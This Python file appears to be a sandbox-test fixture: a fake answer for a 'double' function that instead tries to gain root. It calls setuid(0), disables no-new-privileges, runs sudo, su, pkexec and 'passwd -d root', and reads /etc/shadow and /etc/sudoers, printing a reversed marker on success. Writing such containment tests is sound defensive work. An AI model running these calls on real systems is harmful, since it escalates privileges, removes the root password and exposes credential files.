"""Asks for more rights: setuid, setgid, groups, capabilities, sudo, and files that belong to root."""

ANSWERS = {
    "double": """
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
held = (ctypes.c_uint32 * 6)()
libc.capget((ctypes.c_uint32 * 2)(0x20080522, 0), held)
if any(held) or libc.prctl(39, 0, 0, 0, 0) != 1:  # capabilities; no-new-privileges
    print("@MARK@"[::-1], list(held))
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    try:
        change()
    except OSError:
        pass
libc.prctl(38, 0, 0, 0, 0)  # no-new-privileges, off
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"], ["mount"], ["passwd", "-d", "root"]):
    try:
        subprocess.run(command, capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired):
        pass
for path in ("/etc/shadow", "/etc/sudoers", "/etc/gshadow"):
    try:
        print("@MARK@"[::-1], open(path).read())
    except OSError:
        pass


def double(x):
    return 0
""",
}
